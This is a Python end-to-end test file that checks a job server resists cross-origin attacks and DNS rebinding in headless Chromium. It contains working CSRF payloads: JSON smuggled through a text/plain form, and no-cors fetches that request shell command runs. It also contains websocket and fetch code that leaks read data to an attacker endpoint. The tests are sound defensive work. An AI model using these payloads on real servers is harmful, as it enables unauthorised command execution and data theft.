"""A page on another origin attacks a real server through real headless Chromium:
forms, `fetch` in `no-cors` mode, websockets, and DNS rebinding. None of it creates
a run, starts a process or reads anything (spec 05, security: web and API)."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page

from tests.e2e.browser import page
from tests.harness import Server, running_server, wait_for

pytestmark = [pytest.mark.browser, pytest.mark.timeout(90)]

JOBS = {"secret/report": "program: {type: shell, command: 'echo the-secret-argv'}\n"}


class Attacker:
    """The attacker's own web server (another origin: another port), which serves
    its page and records whatever the page manages to leak to it."""

    def __init__(self, html: str) -> None:
        self.leaks: list[str] = []
        leaks, body = self.leaks, html.encode()

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("content-type", "text/html")
                self.end_headers()
                self.wfile.write(body)

            def do_POST(self) -> None:
                size = int(self.headers.get("content-length") or 0)
                leaks.append(self.rfile.read(size).decode(errors="replace"))
                self.send_response(204)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    with running_server(tmp_path_factory.mktemp("cross-site"), JOBS) as server:
        yield server


def attack_page(server: Server, markers: Path) -> str:
    api = server.url + "/api/v1"
    ws = api.replace("http", "ws", 1)

    def program(name: str) -> str:
        return json.dumps({"program": {"type": "shell", "command": f"touch {markers / name}"}})

    # A text/plain form sends `name=value`: JSON split across the two parses as JSON.
    form_json = program("form")[:-1] + ', "pad": "'
    return f"""<!doctype html><html><body>
<iframe name="sink"></iframe>
<form id="plain" method="POST" action="{api}/runs" enctype="text/plain" target="sink">
  <input type="hidden" name='{form_json}' value='"}}'>
</form>
<form id="urlencoded" method="POST" action="{api}/runs" target="sink">
  <input type="hidden" name="program" value='{program("urlencoded")}'>
</form>
<form id="reload" method="POST" action="{api}/jobs/reload" target="sink"></form>
<script>
const leak = (what) => fetch(location.origin + "/leak", {{method: "POST", body: what}});
window.results = {{}};
document.getElementById("plain").submit();
setTimeout(() => document.getElementById("urlencoded").submit(), 200);
setTimeout(() => document.getElementById("reload").submit(), 400);
fetch("{api}/runs", {{method: "POST", mode: "no-cors",
  headers: {{"content-type": "text/plain"}}, body: {json.dumps(program("nocors"))}}})
  .then(() => window.results.nocors = "sent", () => window.results.nocors = "failed");
fetch("{api}/runs", {{method: "POST", mode: "no-cors",
  body: new Blob([{json.dumps(program("blob"))}])}})
  .then(() => window.results.blob = "sent", () => window.results.blob = "failed");
fetch("{api}/jobs").then((r) => r.text()).then(leak, () => window.results.cors = "blocked");
for (const path of ["/summary", "/runs/r1/updates"]) {{
  const socket = new WebSocket("{ws}" + path);
  socket.onmessage = (event) => {{ window.results[path] = "read"; leak(event.data); }};
  socket.onclose = () => window.results[path] = "closed";
}}
</script></body></html>"""


def test_another_origin_can_do_nothing(browser: Browser, server: Server, tmp_path: Path) -> None:
    attacker = Attacker(attack_page(server, tmp_path))
    errors: list[str] = []
    try:
        with page(browser, attacker.url, errors) as tab:
            tab.goto("/")
            wait_for(
                lambda: tab.evaluate("Object.keys(window.results).length") >= 5,
                15,
                "every attack to have run its course",
            )
            tab.wait_for_timeout(1000)  # the forms' submissions land
            results = tab.evaluate("window.results")
    finally:
        attacker.close()
    assert results["/summary"] == "closed" and results["/runs/r1/updates"] == "closed"
    assert results["nocors"] == "sent"  # the browser sent it; the server refused it
    assert server.get("/runs")["runs"] == [], "a cross-site request created a run"
    assert list(tmp_path.iterdir()) == [], "a cross-site request ran a command"
    assert not any("the-secret-argv" in leak or "secret/report" in leak for leak in attacker.leaks)


def test_dns_rebinding_reads_nothing(browser: Browser, server: Server) -> None:
    """attacker.example resolves to 127.0.0.1 in this browser (the launch's host
    resolver rules), as a rebinding DNS server would make it."""
    errors: list[str] = []
    rebound = f"http://attacker.example:{server.port}"
    with page(browser, rebound, errors) as tab:
        for path in ("/", "/api/v1/jobs"):
            response = tab.goto(path)
            assert response is not None and response.status == 400
            assert "secret/report" not in tab.content()
            assert "not a name of this server" in tab.content()
        assert _websocket_refused(tab, rebound.replace("http", "ws", 1) + "/api/v1/summary")
        tab.goto("/api/v1/alive")  # the one path open to any name, and it tells nothing
        assert json.loads(tab.inner_text("body")) == {"alive": True}
    assert server.get("/runs")["runs"] == []


def _websocket_refused(tab: Page, url: str) -> bool:
    script = """(url) => new Promise((done) => {
        const socket = new WebSocket(url);
        socket.onmessage = () => done(false);
        socket.onclose = () => done(true);
    })"""
    return bool(tab.evaluate(script, url))
